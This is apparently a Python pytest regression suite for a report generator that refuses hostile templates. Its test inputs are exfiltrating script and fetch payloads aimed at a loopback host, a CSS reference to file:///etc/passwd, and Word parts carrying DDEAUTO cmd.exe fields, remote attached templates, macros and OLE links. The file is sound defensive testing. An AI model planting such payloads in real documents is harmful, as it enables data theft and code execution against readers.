"""Fail closed (issue 17, items 5 and 6): a paper carries no active or remote content, and
every stage of making it is bounded. One regression test per defect found; each failed on the
code before the fix."""

from __future__ import annotations

import io
import sys
import zipfile
from collections.abc import Callable
from pathlib import Path

import pytest
from typer.testing import CliRunner

from tests.conftest import RepoBuilder, invoke

Q3 = ["--quarter", "2004-Q3"]


def _report(cli: CliRunner, repo: RepoBuilder, *args: str) -> tuple[int, str, str]:
    return invoke(cli, "report", "--root", str(repo.root), *Q3, *args)


# -- template bounds: no single operation builds more than a million characters -------------

WIDE = 300_000_000
"""Wide enough to be refused at once; small enough that the code before the fix built it
(300 MB) and went on, so these tests failed there rather than exhausting the machine."""


@pytest.mark.parametrize(
    ("body", "says"),
    [
        (f'{{{{ ("%{WIDE}d" % 1) | length }}}}', "`%` formatting of '%300000000d'"),
        (f'{{{{ ("%*d" % ({WIDE}, 1)) | length }}}}', "`%` formatting of '%*d'"),
        (f'{{{{ ("%.{WIDE}f" % 1.5) | length }}}}', "`%` formatting"),
        (f'{{{{ ("%((k))s%((k)){WIDE}s" % {{"(k)": 1}}) | length }}}}', "`%` formatting"),
        (f'{{{{ "%{WIDE}d" | format(1) | length }}}}', "`%` formatting"),
        (f'{{{{ "{{:{WIDE}}}".format(1) | length }}}}', "`format()`"),
        (f'{{{{ "{{:{{}}}}".format(1, {WIDE}) | length }}}}', "`format()`"),
        (f'{{{{ "{{a:{{b}}}}".format_map({{"a": 1, "b": {WIDE}}}) | length }}}}', "`format_map()`"),
        ('{{ "{0}{0}{0}".format("x" * 900000) | length }}', "`format()`"),
        (f'{{{{ "x" | center({WIDE}) | length }}}}', "`center`"),
        (f'{{{{ "x".center({WIDE}) | length }}}}', "`center()`"),
        (f'{{{{ "x".ljust({WIDE}) | length }}}}', "`ljust()`"),
        (f'{{{{ "x".rjust({WIDE}) | length }}}}', "`rjust()`"),
        (f'{{{{ "1".zfill({WIDE}) | length }}}}', "`zfill()`"),
        ('{{ ("\t" * 1000).expandtabs(300000) | length }}', "`expandtabs()`"),
        ('{{ ("x\\n" * 1000) | indent(300000) | length }}', "`indent`"),
        ('{{ ("x" * 1000) | replace("x", "y" * 300000) | length }}', "`replace`"),
        ('{{ ("x" * 1000).replace("", "y" * 300000) | length }}', "`replace()`"),
        ('{{ ("y" * 1000).join(["a"] * 300000) | length }}', "`join()`"),
        ('{{ (["x" * 1000000] * 300) | join | length }}', "`join`"),
        ('{{ ("x" * 1000).translate({120: "y" * 300000}) | length }}', "`translate()`"),
        (f'{{{{ (1).to_bytes({WIDE}, "big") | length }}}}', "`to_bytes()`"),
        ("{{ [1] | batch(30000000, 0) | list | length }}", "`batch`"),
        ("{{ [1] | slice(3000000) | list | length }}", "`slice`"),
        ('{{ ("a " * 100000) | wordwrap(1, wrapstring="y" * 3000) | length }}', "`wordwrap`"),
        ('{{ ("a.co " * 1000) | urlize(target="y" * 300000) | length }}', "`urlize`"),
        ('{{ ([["x"] * 100000] * 300) | sum(start=[]) | length }}', "`sum`"),
    ],
)
def test_one_operation_cannot_build_a_huge_value(
    cli: CliRunner, repo: RepoBuilder, body: str, says: str
) -> None:
    """`{{ ("%3000000000d" % 1)|length }}` allocated 3 GB (so did `center`, `format`,
    `indent`): a single C call that no time limit interrupts."""
    template = repo.write("huge.md.j2", f"line one\n{body}\n")
    code, out, err = _report(cli, repo, "--template", str(template))
    assert (code, out) == (2, "")
    assert f"template {template}:2: {says}" in err
    assert "would build more than 1 million characters or items; simplify the template" in err


def test_bounded_operations_still_work(cli: CliRunner, repo: RepoBuilder) -> None:
    """What a paper uses of the same operations is untouched."""
    template = repo.write(
        "fine.md.j2",
        '{{ "%s-%03d|%-4s|" % ("a", 7, "b") }}{{ "%(k)s" % {"k": "m"} }}'
        '{{ "{:>4}|{:.2f}".format("x", 2.5) }}|{{ "ab" | center(6) }}|{{ [1, 2, 3] | join(", ") }}'
        '|{{ [1, 2, 3] | batch(2) | list }}|{{ "a b c" | wordwrap(3) | replace("\n", "/") }}'
        "|{{ [[1], [2]] | sum(start=[]) }}|{{ 'x' | indent(2) }}\n",
    )
    code, out, err = _report(cli, repo, "--template", str(template))
    assert code == 0, err
    assert out == "a-007|b   |m   x|2.50|  ab  |1, 2, 3|[[1, 2], [3]]|a b/c|[1, 2]|x\n"


def test_lipsum_is_gone(cli: CliRunner, repo: RepoBuilder) -> None:
    """`lipsum(n)` writes lorem ipsum of any length; no paper needs it."""
    template = repo.write("lorem.md.j2", "{{ lipsum(30000000) | length }}\n")
    code, _, err = _report(cli, repo, "--template", str(template))
    assert code == 2 and "'lipsum' is undefined" in err


def test_a_template_cannot_grow_a_list(cli: CliRunner, repo: RepoBuilder) -> None:
    """Lists and dicts are immutable in the sandbox: `append` in a loop would accumulate
    memory that no bound on one operation sees."""
    template = repo.write(
        "grow.md.j2",
        "{% set acc = [] %}{% for i in range(3) %}{{ acc.append(i) }}{% endfor %}{{ acc }}\n",
    )
    code, _, err = _report(cli, repo, "--template", str(template))
    assert code == 2 and "access to attribute 'append' of 'list' object is unsafe" in err


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="the memory budget is Linux's")
def test_a_template_that_accumulates_memory_is_stopped(cli: CliRunner, repo: RepoBuilder) -> None:
    """A string doubled in a loop: every step is within the bounds (it adds only its input),
    but the render would map 2 GiB; the memory budget (1 GiB, Linux) stops it as exit 2."""
    template = repo.write(
        "double.md.j2",
        '{% set ns = namespace(s="x" * 1000000) %}{% for i in range(11) %}'
        "{% set ns.s = ns.s ~ ns.s %}{% endfor %}{{ ns.s | length }}\n",
    )
    code, out, err = _report(cli, repo, "--template", str(template))
    assert (code, out) == (2, "")
    assert f"template {template}:1 ran out of memory; simplify the template" in err


# -- the HTML paper: no active or remote content ----------------------------------------------

ACTIVE = [
    (
        '<script>fetch("http://127.0.0.1:9/", {method: "POST", body: document.body.innerHTML})'
        "</script>",
        "(<script>)",
    ),
    ('<img src="http://127.0.0.1:9/pixel.png">', '(<img src="http://127.0.0.1:9/pixel.png">)'),
    ('<iframe src="http://127.0.0.1:9/"></iframe>', "(<iframe"),
    ('<object data="http://127.0.0.1:9/x.swf"></object>', "(<object"),
    ('<embed src="http://127.0.0.1:9/x">', "(<embed"),
    ('<div onclick="alert(1)">x</div>', '(<div onclick="alert(1)">)'),
    ('<p onmouseover="alert(1)">x</p>', "onmouseover"),
    ('<a href="http://127.0.0.1:9/">a link out</a>', '(<a href="http://127.0.0.1:9/">)'),
    ('<a href="javascript:alert(1)">x</a>', "javascript:alert(1)"),
    ('<link rel="stylesheet" href="http://127.0.0.1:9/x.css">', "(<link"),
    ('<base href="http://127.0.0.1:9/">', "(<base"),
    ('<meta http-equiv="refresh" content="0; url=http://127.0.0.1:9/">', "http-equiv"),
    ('<form action="http://127.0.0.1:9/"><input name="q"></form>', "(<form"),
    ("<svg><script>alert(1)</script></svg>", "(<script>)"),
    ('<svg><use href="http://127.0.0.1:9/s.svg#a"></use></svg>', "(<use"),
    ('<svg><image href="http://127.0.0.1:9/i.png"></image></svg>', "(<image"),
    ("<svg><foreignObject><p>x</p></foreignObject></svg>", "(<foreignobject>)"),
    (
        '<svg><rect fill="url(http://127.0.0.1:9/p.svg#g)"></rect></svg>',
        "url(http://127.0.0.1:9/p.svg#g) in CSS in the fill of <rect>",
    ),
    (
        '<span style="background: url(http://127.0.0.1:9/b.png)">x</span>',
        "url(http://127.0.0.1:9/b.png) in CSS in the style of <span>",
    ),
    ("<style>@import url(http://127.0.0.1:9/x.css);</style>", "(@import in CSS)"),
    ('<style>@import "x.css";</style>', "(@import in CSS)"),
    ("<style>@media print { @import url(x.css); }</style>", "(@import in CSS)"),
    (
        "<style>p { background: url(http://127.0.0.1:9/b.png) }</style>",
        "(url(http://127.0.0.1:9/b.png) in CSS)",
    ),
    (
        "<style>p { background: u\\72l(http://127.0.0.1:9/b.png) }</style>",
        "(url(http://127.0.0.1:9/b.png) in CSS)",
    ),
    (
        '<style>p { background: URL("file:///etc/passwd") }</style>',
        "(url(file:///etc/passwd) in CSS)",
    ),
    (
        '<style>p { background: image-set("http://127.0.0.1:9/b.png" 1x) }</style>',
        "(url(http://127.0.0.1:9/b.png) in CSS)",
    ),
    (
        "<style>@font-face { font-family: x; src: url(//127.0.0.1:9/f.woff) }</style>",
        "(url(//127.0.0.1:9/f.woff) in CSS)",
    ),
    ("<style>p { width: expression(alert(1)) }</style>", "(expression() in CSS)"),
    ("<svg><style>@import url(http://127.0.0.1:9/x.css);</style></svg>", "(@import in CSS)"),
    ("<svg><style>&#64;import url(http://127.0.0.1:9/x.css);</style></svg>", "(@import in CSS)"),
]


@pytest.mark.parametrize(("markup", "says"), ACTIVE)
def test_a_template_with_active_or_remote_content_is_refused(
    cli: CliRunner, repo: RepoBuilder, markup: str, says: str
) -> None:
    """A `templates/report.html.j2` with `<script>fetch(...)</script>` or
    `<img src="http://...">` was kept: opening the closed HTML in Chromium sent the whole
    paper to a server. Now the template is refused, naming it and what it asked for."""
    (repo.root / "templates").mkdir()
    repo.write("templates/report.html.j2", f"<h1>{{{{ r.title }}}}</h1>\n{markup}\n<p>end</p>\n")
    code, out, err = _report(cli, repo, "--session", "closed", "--format", "html")
    assert (code, out) == (2, "")
    assert err.startswith("psstrat: error: template report.html.j2: the paper would carry ")
    assert says in err, err
    assert err.endswith("; papers carry none, remove it from the template\n")
    assert "Traceback" not in err and len(err.splitlines()) == 1


@pytest.mark.parametrize(
    "tag",
    [
        '<body onload="alert(1)">',
        "<body class='draft'>",
        '<html manifest="x.appcache">',
        '<head profile="x">',
        "<body/onload=alert(1)>",
    ],
)
def test_attributes_on_the_document_shell_are_refused(
    cli: CliRunner, repo: RepoBuilder, tag: str
) -> None:
    """ammonia cleans fragments: it drops `<html>`, `<head>`, `<body>` and their attributes
    unseen, so `<body onload=...>` would vanish silently. psstrat writes the shell itself and
    refuses an attribute the template puts on it (except `<html lang>`)."""
    (repo.root / "templates").mkdir()
    repo.write("templates/report.html.j2", f"<!DOCTYPE html>\n{tag}\n<p>{{{{ r.title }}}}</p>\n")
    code, _, err = _report(cli, repo, "--format", "html")
    assert code == 2
    assert "template report.html.j2: psstrat writes the paper's <html>, <head> and <body>" in err
    assert err.endswith("; put attributes on an element inside them\n")


def test_the_paper_is_psstrats_shell_around_the_cleaned_template(
    cli: CliRunner, repo: RepoBuilder
) -> None:
    """Doctype, language, charset and a Content-Security-Policy that allows nothing remote
    and no script come first, whatever the template wrote; a template's own full document
    (as older overrides have) is accepted, its `<html lang>` carried over."""
    (repo.root / "templates").mkdir()
    repo.write(
        "templates/report.html.j2",
        '<!DOCTYPE html>\n<html lang="cy">\n<head>\n<meta charset="utf-8">\n'
        "<title>{{ r.title }}</title>\n<!-- a comment -->\n</head>\n<body>\n"
        '<p class="x" style="color: #333; background: url(data:image/png;base64,AA==)">'
        '{{ r.title }} <a href="#summary">up</a></p>\n</body>\n</html>\n',
    )
    code, out, err = _report(cli, repo, "--format", "html")
    assert code == 0, err
    assert out.startswith(
        '<!DOCTYPE html>\n<html lang="cy">\n<meta charset="utf-8">\n'
        '<meta http-equiv="Content-Security-Policy" content="default-src \'none\'; '
        "style-src 'unsafe-inline'; img-src data:; font-src data:; base-uri 'none'; "
        "form-action 'none'\">\n"
    )
    assert "<title>Test Strategy: progress report, Q3 2004/05</title>" in out
    assert '<a href="#summary">up</a>' in out and "a comment" not in out
    assert "<body" not in out and "<head" not in out


@pytest.mark.parametrize("session", ["open", "closed"])
@pytest.mark.parametrize("extra", [[], ["--as-of", "2004-12-30"], ["--strand", "S1"]])
def test_the_packaged_paper_passes_its_own_cleaning(
    cli: CliRunner, session: str, extra: list[str]
) -> None:
    """Everything the packaged templates write (the draft watermark, both charts, every
    table) is on the allowlist: nothing of it is refused or removed."""
    from tests.test_security import ROOT

    code, out, err = invoke(
        cli, "report", "--root", str(ROOT), *Q3, "-f", "html", "--session", session, *extra
    )
    assert code == 0, err
    assert out.count("<svg") == (1 if extra[:1] == ["--strand"] else 2)
    assert 'role="img" aria-labelledby="heat-title heat-desc"' in out


# -- the Word paper: nothing that fetches or runs -------------------------------------------

WORD_TEMPLATE = Path(__file__).resolve().parents[1] / "templates" / "report.docx"
REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
W_NS = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def hostile_docx(
    edits: dict[str, Callable[[str], str]], extra: dict[str, str | bytes] | None = None
) -> bytes:
    """The packaged Word template with some parts edited (zip in, zip out) and some added."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(WORD_TEMPLATE) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for info in source.infolist():
            data = source.read(info)
            if info.filename in edits:
                data = edits[info.filename](data.decode("utf-8")).encode("utf-8")
            target.writestr(info.filename, data)
        for name, content in (extra or {}).items():
            target.writestr(name, content)
    return out.getvalue()


def _relationship(kind: str, target: str, external: bool = True) -> Callable[[str], str]:
    mode = ' TargetMode="External"' if external else ""
    rel = f'<Relationship Id="rIdEvil" Type="{REL_NS}/{kind}" Target="{target}"{mode}/>'
    return lambda xml: xml.replace("</Relationships>", rel + "</Relationships>")


def _in_body(xml: str) -> Callable[[str], str]:
    return lambda doc: doc.replace("<w:body>", f"<w:body>{xml}", 1)


def _content_type(part: str, kind: str) -> Callable[[str], str]:
    override = f'<Override PartName="/{part}" ContentType="{kind}"/>'
    return lambda xml: xml.replace("</Types>", override + "</Types>")


LINKED_PICTURE = (
    '<w:p><w:r><w:drawing><wp:inline xmlns:wp="http://schemas.openxmlformats.org/drawingml/'
    '2006/wordprocessingDrawing"><wp:extent cx="952500" cy="952500"/><wp:docPr id="99" '
    'name="Picture 99"/><a:graphic xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/'
    'main"><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<pic:pic xmlns:pic="http://schemas.openxmlformats.org/drawingml/2006/picture">'
    '<pic:nvPicPr><pic:cNvPr id="99" name="x.png"/><pic:cNvPicPr/></pic:nvPicPr>'
    '<pic:blipFill><a:blip r:link="rIdEvil"/><a:stretch><a:fillRect/></a:stretch>'
    '</pic:blipFill><pic:spPr><a:xfrm><a:off x="0" y="0"/><a:ext cx="952500" cy="952500"/>'
    '</a:xfrm><a:prstGeom prst="rect"><a:avLst/></a:prstGeom></pic:spPr></pic:pic>'
    "</a:graphicData></a:graphic></wp:inline></w:drawing></w:r></w:p>"
)
DOC = "word/document.xml"
DOC_RELS = "word/_rels/document.xml.rels"
SETTINGS = "word/settings.xml"
TYPES = "[Content_Types].xml"


def _complex_field(*instructions: str) -> str:
    runs = "".join(
        f'<w:r><w:instrText xml:space="preserve">{i}</w:instrText></w:r>' for i in instructions
    )
    return (
        f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{runs}'
        '<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>x</w:t></w:r>'
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    )


HOSTILE_WORD: list[tuple[str, dict[str, Callable[[str], str]], dict[str, str | bytes], str]] = [
    (
        "an external image link",
        {
            DOC_RELS: _relationship("image", "http://127.0.0.1:9/x.png"),
            DOC: _in_body(LINKED_PICTURE),
        },
        {},
        f"{DOC_RELS} has an external relationship (image to http://127.0.0.1:9/x.png)",
    ),
    (
        "an external oleObject",
        {DOC_RELS: _relationship("oleObject", "file:///C:/evil.xlsx")},
        {},
        f"{DOC_RELS} has an external relationship (oleObject to file:///C:/evil.xlsx)",
    ),
    (
        "a remote attachedTemplate",
        {SETTINGS: lambda x: x.replace("<w:zoom ", '<w:attachedTemplate r:id="rIdEvil"/><w:zoom ')},
        {
            "word/_rels/settings.xml.rels": (
                '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.'
                'openxmlformats.org/package/2006/relationships"><Relationship Id="rIdEvil" '
                f'Type="{REL_NS}/attachedTemplate" Target="http://127.0.0.1:9/t.dotm" '
                'TargetMode="External"/></Relationships>'
            )
        },
        f"{SETTINGS} has an attached template (Word fetches it) (<attachedTemplate>)",
    ),
    (
        "an attached template inside the package",
        {DOC_RELS: _relationship("attachedTemplate", "t.dotm", external=False)},
        {},
        f"{DOC_RELS} has a relationship of type attachedTemplate (t.dotm)",
    ),
    (
        "an INCLUDEPICTURE field split across runs",
        {DOC: _in_body(_complex_field(" INCLUDE", 'PICTURE "http://127.0.0.1:9/x.png" \\d '))},
        {},
        f'{DOC} has an INCLUDEPICTURE field (INCLUDEPICTURE "http://127.0.0.1:9/x.png" \\d)',
    ),
    (
        "an INCLUDETEXT field",
        {DOC: _in_body('<w:p><w:fldSimple w:instr=" INCLUDETEXT c:\\\\secret.docx "/></w:p>')},
        {},
        f"{DOC} has an INCLUDETEXT field",
    ),
    (
        "a DDEAUTO field",
        {DOC: _in_body(_complex_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'))},
        {},
        f"{DOC} has a DDEAUTO field",
    ),
    (
        "a fetching field nested in an allowed one",
        {
            DOC: _in_body(
                '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>REF '
                "</w:instrText></w:r>"
                + _complex_field("INCLUDETEXT x.docx")[5:-6]
                + '<w:r><w:fldChar w:fldCharType="separate"/></w:r>'
                '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
            )
        },
        {},
        f"{DOC} has an INCLUDETEXT field",
    ),
    (
        "a HYPERLINK field out of the paper",
        {
            DOC: _in_body(
                '<w:p><w:fldSimple w:instr="HYPERLINK &quot;https://127.0.0.1:9/&quot;"/></w:p>'
            )
        },
        {},
        f'{DOC} has a HYPERLINK field (HYPERLINK "https://127.0.0.1:9/")',
    ),
    (
        "a mail merge",
        {
            SETTINGS: lambda x: x.replace(
                "<w:zoom ",
                '<w:mailMerge><w:mainDocumentType w:val="formLetters"/></w:mailMerge><w:zoom ',
            )
        },
        {},
        f"{SETTINGS} has a mail merge (it reads a data source) (<mailMerge>)",
    ),
    (
        "macros",
        {TYPES: _content_type("word/vbaProject.bin", "application/vnd.ms-office.vbaProject")},
        {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"},
        "word/vbaProject.bin is a part of type application/vnd.ms-office.vbaproject",
    ),
    (
        "an ActiveX control",
        {
            TYPES: _content_type(
                "word/activeX/activeX1.xml", "application/vnd.ms-office.activeX+xml"
            )
        },
        {
            "word/activeX/activeX1.xml": "<ax:ocx xmlns:ax='http://schemas.microsoft.com/office/2006/activeX'/>"
        },
        "word/activeX/activeX1.xml is a part of type application/vnd.ms-office.activex+xml",
    ),
    (
        "an embedded OLE object",
        {
            DOC: _in_body(
                '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office"'
                ' ProgID="Package"/></w:object></w:r></w:p>'
            )
        },
        {},
        f"{DOC} has an embedded or linked object (<object>)",
    ),
    (
        "a linked VML picture",
        {
            DOC: _in_body(
                '<w:p><w:r><w:pict><v:shape xmlns:v="urn:schemas-microsoft-com:vml">'
                '<v:imagedata src="\\\\127.0.0.1\\share\\x.png"/></v:shape></w:pict></w:r></w:p>'
            )
        },
        {},
        f"{DOC} names \\\\127.0.0.1\\share\\x.png (the src of <imagedata>)",
    ),
    (
        "a DOCTYPE with entities",
        {
            "word/footer1.xml": lambda x: x.replace(
                "?>", '?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">]>', 1
            )
        },
        {},
        "word/footer1.xml has a DOCTYPE, which no Word part has; save it again from Word",
    ),
]


@pytest.mark.parametrize(
    ("edits", "extra", "says"),
    [pytest.param(e, x, s, id=name) for name, e, x, s in HOSTILE_WORD],
)
def test_a_word_template_that_fetches_or_runs_is_refused(
    cli: CliRunner,
    repo: RepoBuilder,
    edits: dict[str, Callable[[str], str]],
    extra: dict[str, str | bytes],
    says: str,
) -> None:
    """A `templates/report.docx` with an external image link, an external oleObject, a remote
    attachedTemplate, INCLUDEPICTURE, INCLUDETEXT and DDEAUTO fields passed into the paper
    (LibreOffice fetched the image while converting it). Now it is refused, naming the part."""
    (repo.root / "templates").mkdir()
    (repo.root / "templates" / "report.docx").write_bytes(hostile_docx(edits, extra))
    out = repo.root / "r.docx"
    code, _, err = _report(cli, repo, "-o", str(out))
    assert code == 2 and not out.exists()
    assert err.startswith(f"psstrat: error: template report.docx: {says}"), err
    assert len(err.splitlines()) == 1 and "Traceback" not in err


def test_raw_xml_a_word_template_writes_is_checked_in_the_paper(
    cli: CliRunner, repo: RepoBuilder
) -> None:
    """`|safe` lets a template write raw Word XML: the rendered paper is inspected too."""
    raw = (
        '{{ \'&lt;/w:t&gt;&lt;/w:r&gt;&lt;w:fldSimple w:instr="INCLUDETEXT x.docx"&gt;'
        "&lt;w:r&gt;&lt;w:t&gt;x&lt;/w:t&gt;&lt;/w:r&gt;&lt;/w:fldSimple&gt;&lt;w:r&gt;&lt;w:t&gt;'"
        " | safe }}"
    )
    body = _in_body(f"<w:p><w:r><w:t>{raw}</w:t></w:r></w:p>")
    (repo.root / "templates").mkdir()
    (repo.root / "templates" / "report.docx").write_bytes(hostile_docx({DOC: body}))
    code, _, err = _report(cli, repo, "-o", str(repo.root / "r.docx"))
    assert code == 2
    assert (
        "template report.docx: renders to a paper whose word/document.xml has an INCLUDETEXT field"
        in err
    )


def test_word_fields_a_paper_uses_are_kept(cli: CliRunner, repo: RepoBuilder) -> None:
    """Page numbers (the packaged footer), a table of contents and links to bookmarks."""
    toc = _complex_field(' TOC \\o "1-3" \\h ') + _complex_field(' HYPERLINK \\l "_Toc1" ')
    (repo.root / "templates").mkdir()
    (repo.root / "templates" / "report.docx").write_bytes(hostile_docx({DOC: _in_body(toc)}))
    code, _, err = _report(cli, repo, "-o", str(repo.root / "r.docx"))
    assert code == 0, err


def test_word_paper_is_capped(
    cli: CliRunner, repo: RepoBuilder, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The Word output had no size cap (HTML and Markdown stop at 64 MiB)."""
    from psstrat.report import render as render_module

    code, _, err = _report(cli, repo, "-o", str(repo.root / "r.docx"))
    assert code == 0, err  # the fixture's paper is 40 kB, of which 21 kB is its text
    monkeypatch.setattr(render_module, "MAX_OUTPUT", 30_000)
    code, _, err = _report(cli, repo, "-o", str(repo.root / "r.docx"))
    assert code == 2 and "template report.docx: the Word paper passed 0.0286102 MiB" in err


def test_libreoffice_fetches_the_link_that_is_refused(
    cli: CliRunner, repo: RepoBuilder, tmp_path: Path
) -> None:
    """The external image link is real: LibreOffice, converting the hostile template itself,
    asks a local server for the picture. psstrat refuses to make a paper from it."""
    import http.server
    import os
    import shutil
    import subprocess
    import threading

    soffice = shutil.which("soffice")
    if soffice is None:
        if os.environ.get("CI"):
            pytest.fail("CI must have LibreOffice: .ci/run installs libreoffice-writer-nogui")
        pytest.skip("no LibreOffice on this machine (.ci/run installs it; CI never skips)")
    seen: list[str] = []

    class Record(http.server.BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            seen.append(self.path)
            self.send_response(404)
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Record)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    try:
        url = f"http://127.0.0.1:{server.server_address[1]}/picture.png"
        hostile = hostile_docx(
            {DOC_RELS: _relationship("image", url), DOC: _in_body(LINKED_PICTURE)}
        )
        (tmp_path / "hostile.docx").write_bytes(hostile)
        subprocess.run(
            [
                soffice,
                "--headless",
                "--convert-to",
                "pdf",
                "--outdir",
                str(tmp_path),
                "hostile.docx",
            ],
            cwd=tmp_path,
            env={**os.environ, "HOME": str(tmp_path)},
            capture_output=True,
            timeout=180,
            check=True,
        )
        assert "/picture.png" in seen  # LibreOffice fetched it
        (repo.root / "templates").mkdir()
        (repo.root / "templates" / "report.docx").write_bytes(hostile)
        code, _, err = _report(cli, repo, "-o", str(tmp_path / "paper.docx"))
        assert code == 2 and "has an external relationship (image to http://127.0.0.1:" in err
    finally:
        server.shutdown()
        server.server_close()


# -- the PDF engine: bounded in a child process -----------------------------------------------


def test_a_crashed_or_killed_engine_is_said_as_such() -> None:
    import signal

    from psstrat.report.engine import _why

    assert _why(-signal.SIGSEGV, "", 300) == "crashed with SIGSEGV"
    assert _why(-signal.SIGKILL, "", 300) == "killed, most likely out of memory"
    assert _why(-signal.SIGXCPU, "", 300) == "used more than 300 s of processor time"
    assert _why(7, "", 300) == "exited with status 7"


@pytest.mark.skipif(not sys.platform.startswith("linux"), reason="RLIMIT_CPU is checked here")
def test_the_engine_process_limits_itself(tmp_path: Path) -> None:
    """Its processor time too, so it stops even if psstrat itself is killed first."""
    import subprocess

    probe = (
        "import resource, sys; from psstrat.report import engine; engine._limit(10, 2**32); "
        "print(resource.getrlimit(resource.RLIMIT_CPU), resource.getrlimit(resource.RLIMIT_AS))"
    )
    out = subprocess.run(
        [sys.executable, "-c", probe], capture_output=True, text=True, check=True
    ).stdout
    assert out.strip() == f"(11, 16) ({2**32}, {2**32})"


def test_deeply_nested_html_cannot_stall_the_cleaning(
    cli: CliRunner, repo: RepoBuilder, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Parsing nested tags takes time quadratic in their depth (100,000 `div`s: 80 s), so a
    large output is cleaned in a child process under the render's time limit."""
    from psstrat.report import render as render_module

    monkeypatch.setattr(render_module, "RENDER_SECONDS", 1.0)
    (repo.root / "templates").mkdir()
    repo.write(
        "templates/report.html.j2", "{% for i in range(100000) %}<div>{% endfor %}{{ r.title }}\n"
    )
    code, out, err = _report(cli, repo, "-f", "html")
    assert (code, out) == (2, "")
    assert "template report.html.j2: the HTML cleaning failed (stopped after 1 s)" in err


def test_the_engine_process_imports_nothing_from_the_working_directory(
    cli: CliRunner, repo: RepoBuilder, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The engine's process starts with `python -P`: a `typst.py` in the strategy
    repository (where psstrat is run) is not what it imports."""
    repo.write("typst.py", 'raise SystemExit("imported from the repository")\n')
    monkeypatch.chdir(repo.root)
    code, _, err = _report(cli, repo, "-o", str(repo.root / "r.pdf"))
    assert code == 0, err
    assert (repo.root / "r.pdf").read_bytes().startswith(b"%PDF")
